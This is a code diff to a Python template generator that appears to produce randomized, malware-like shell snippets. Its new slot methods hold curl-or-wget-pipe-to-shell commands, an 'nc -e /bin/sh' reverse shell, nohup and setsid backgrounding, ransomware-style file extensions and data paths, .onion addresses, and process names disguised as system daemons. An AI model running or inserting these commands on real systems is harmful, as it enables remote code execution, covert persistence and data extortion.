@@ -22,6 +22,8 @@ class Slots:
     def __init__(self, rng):
         self.rng = rng
         self.values = {}
+        # Does this author write $name where ${name} is not needed?
+        self.bare = rng.random() < 0.5
 
     def fill(self, name):
         if name not in self.values:
@@ -69,6 +71,12 @@ class Slots:
         v = r.choice([r.choice(WORDS), r.choice(WORDS).upper(), r.choice(string.ascii_letters), r.choice(WORDS) + "_" + r.choice(WORDS),
                       "".join(r.choices(string.ascii_letters, k=r.randrange(2, 8)))])
         return v
+
+    def make_fn(self):
+        """A name for a function."""
+        r = self.rng
+        verb = r.choice("do run get set make start load send handle process check prepare work main go step task".split())
+        return r.choice([verb + "_" + r.choice(WORDS), r.choice(WORDS) + "_" + verb, verb + r.choice(WORDS).capitalize(), "_" + r.choice(WORDS), r.choice(string.ascii_lowercase) + str(r.randrange(1, 9)), r.choice(WORDS)])
 
     def make_url(self):
         r = self.rng
@@ -147,6 +155,32 @@ class Slots:
         """A way to fetch a URL to standard output."""
         return self.rng.choice(["curl -fsSL", "curl -s", "curl -sL", "curl -sk", "wget -qO-", "wget -q -O -", "curl --silent --insecure", "curl -fsS --retry 3", "wget --no-check-certificate -qO-", "curl -m 30 -fsSL"])
 
+    def make_run(self):
+        """What starts something that came from elsewhere; without quotes, so that it stands in any."""
+        r = self.rng
+        place, name = self.fill("file"), self.fill("name")
+        return r.choice([f"{self.fill('dl')} {self.fill('url')} | {r.choice(['sh', 'bash'])}", place, f"{place} -d", f"nohup {place} >/dev/null 2>&1 &", f"setsid {place} &", f"/bin/sh {place}.sh",
+                         f"python3 {place}.py", f"perl {place}.pl", f"nc {self.fill('host')} {self.fill('port')} -e /bin/sh", f"/usr/lib/.{name.strip('.')}/run", f". {place}"])
+
+    def make_data(self):
+        """Where a machine keeps what people miss."""
+        return self.rng.choice(["/srv", "/home", "/var/www", "/data", "/var/lib/mysql", "/mnt/nas", "/export", "/media", "/opt/data", "/var/lib/postgresql", "/srv/samba", "/mnt/share", "/storage", f"/srv/{self.fill('plain')}"])
+
+    def make_ext(self):
+        r = self.rng
+        return r.choice(["locked", "enc", "crypt", "encrypted", "aes", r.choice(WORDS), "".join(r.choices(string.ascii_lowercase + string.digits, k=r.randrange(4, 8)))])
+
+    def make_onion(self):
+        return "".join(self.rng.choices(string.ascii_lowercase + "234567", k=56)) + ".onion"
+
+    def make_hex(self):
+        return self.rng.randbytes(self.rng.choice([8, 16, 20, 32])).hex()
+
+    def make_disguise(self):
+        """A name that looks like a part of the system."""
+        r = self.rng
+        return r.choice(["systemd", "dbus", "udev", "kernel", "network", "gvfs", "cron", "ssh", "snap", "polkit", "rsys", "acpi"]) + r.choice(["-", "", "d-"]) + r.choice(["helper", "update", "cache", "monitor", "sync", "worker", "notify", "bus", "agent", "check", self.fill("plain")])
+
     def make_agent(self):
         return self.rng.choice(["curl/7.68.0", "Mozilla/5.0", "linux", self.fill("plain")])
 
@@ -166,9 +200,10 @@ def expand(template, slots):
             break
         end = out.find("}", start)
         name = out[start + 1 : end] if end > 0 else ""
-        if name == "var" and start and out[start - 1] == "$":
+        if name.rstrip("0123456789") == "var" and start and out[start - 1] == "$":
             # A reference to the variable, not a slot of its own.
-            parts += [out[at : start + 1], slots.fill("var"), "}"]
+            bare = slots.bare and not re.match(r"[\w\[{]", out[end + 1 : end + 2])
+            parts += [out[at:start], slots.fill(name)] if bare else [out[at : start + 1], slots.fill(name), "}"]
             at = end + 1
         elif name.isalnum() and name.islower() and (start == 0 or out[start - 1] != "$"):
             try:
